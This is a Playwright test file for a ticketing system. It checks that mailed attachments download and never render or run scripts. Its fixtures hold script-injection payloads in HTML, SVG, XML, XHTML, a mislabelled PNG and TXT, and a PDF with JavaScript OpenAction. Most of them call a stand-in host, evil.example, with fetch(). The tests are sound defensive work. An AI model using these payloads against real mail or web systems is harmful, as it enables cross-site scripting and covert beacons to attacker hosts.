"""Row 16. A file that came by mail is a download: in a real browser it runs nothing and asks nobody for anything."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest
from playwright.sync_api import Error, expect

from tests.support.window import Window
from tests.support.world import DESK, World

_RUN = "fetch('http://evil.example/ran'); parent.document.title = top.document.title = 'ran'"
FILES = {
    "evil.html": ("text/html", f"<script>{_RUN}</script><img src=http://evil.example/p.gif>"),
    "evil.svg": (
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_RUN}</script></svg>',
    ),
    "evil.xml": (
        "application/xml",
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{_RUN}</x:script>',
    ),
    "evil.xhtml": (
        "application/xhtml+xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{_RUN}</script></html>',
    ),
    "evil.pdf": (
        "application/pdf",
        "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj",
    ),
    "photo.png": ("image/png", f"<script>{_RUN}</script>"),
    "words.txt": ("text/plain", f"<script>{_RUN}</script>"),
    "none": ("application/octet-stream", f"<html><script>{_RUN}</script>"),
}


def _mail(*names: str, html: str | None = None) -> bytes:
    letter = EmailMessage()
    letter["From"], letter["To"], letter["Subject"] = "Eve <eve@evil.example>", DESK, "Files"
    letter["Message-ID"] = f"<{'-'.join(names)}@evil.example>"
    letter.set_content("Look at these.")
    if html is not None:
        letter.add_alternative(html, subtype="html")
    for name in names:
        kind, content = FILES[name]
        main, _, sub = kind.partition("/")
        letter.add_attachment(content.encode(), main, sub, filename=name, cid=f"<{name}@evil.example>")
    return letter.as_bytes()


def test_a_file_opened_by_its_address_is_saved_and_never_shown(agent: Window, world: World) -> None:
    number = world.ticket(world.receive(_mail(*FILES)).ticket_id).number
    page = agent.open(f"/t/{number}")
    addresses = []
    for name, (_, content) in FILES.items():
        chip = page.locator(f'a[href^="/t/{number}/files/"]', has_text=name)
        with page.expect_download() as saved:
            chip.click()
        assert saved.value.path().read_text() == content
        addresses.append(chip.get_attribute("href"))
        with page.expect_download(), pytest.raises(Error, match="Download is starting"):
            page.goto(f"{agent.base}{addresses[-1]}")
    page.evaluate(  # as another page of this site might: a frame, an object and a script
        """addresses => new Promise(done => {
            for (const [kind, name] of [["iframe", "src"], ["object", "data"], ["embed", "src"], ["script", "src"]])
                for (const address of addresses) {
                    const one = document.createElement(kind); one[name] = address; document.body.append(one);
                }
            setTimeout(done, 1000);
        })""",
        addresses,
    )
    assert "ran" not in page.title()
    assert agent.asked_elsewhere == []


def test_a_picture_that_is_none_shows_and_runs_nothing(agent: Window, world: World) -> None:
    html = "".join(f'<p>{name}: <img alt="no {name}" src="cid:{name}@evil.example"></p>' for name in FILES)
    number = world.ticket(world.receive(_mail(*FILES, html=html)).ticket_id).number
    page = agent.open(f"/t/{number}")
    page.get_by_text("Show formatted").click()
    frame = page.frame_locator("iframe.frame")
    expect(frame.get_by_text("evil.svg:")).to_be_visible()
    shown = frame.locator("img[src]").evaluate_all("all => all.map(one => one.alt)")
    assert shown == ["no photo.png"], "a kind of picture that can hold a script is not shown"
    assert frame.locator("img[src]").evaluate("one => one.naturalWidth") == 0
    expect(page).not_to_have_title(re.compile("ran"))
    agent.assert_clean()
